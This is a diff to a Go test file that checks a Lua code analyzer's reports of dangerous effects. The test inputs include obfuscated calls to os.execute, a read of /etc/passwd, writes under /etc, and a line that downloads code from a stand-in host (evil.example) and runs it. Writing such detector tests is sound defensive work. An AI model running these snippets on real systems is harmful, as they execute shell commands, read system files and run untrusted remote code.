@@ -10,7 +10,7 @@ var luaCases = []testCase{
 	{`load(string.char(111, 115) .. ".execute('id')")()`, is("code os.execute('id')", "shell id")},
 	{`load(string.reverse(")'di'(etucexe.so"))(); load(("x"):rep(3))`, is("code os.execute('id')", "shell id", "code xxx")},
 	{`assert(load(x))(); dofile("/tmp/x.lua"); loadfile("y.lua")()`, is("code …", "exec /tmp/x.lua", "exec y.lua")},
-	{`os.remove("/x"); os.rename("a", "b")`, is("delete /x", "write b", "write a")},
+	{`os.remove("/x"); os.rename("a", "b")`, is("delete /x", "read a", "write b", "write a")},
 	{`local f = io.open("/etc/x", "w"); f:write("y"); f:close()`, is("write /etc/x", "write /etc/x append = y")},
 	{`for l in io.lines("/etc/passwd") do print(l) end`, is("read /etc/passwd")},
 	{`local h = require("socket.http"); local b = h.request("http://evil.example/a"); load(b)()`, is("net-in http://evil.example/a", "code … from network")},
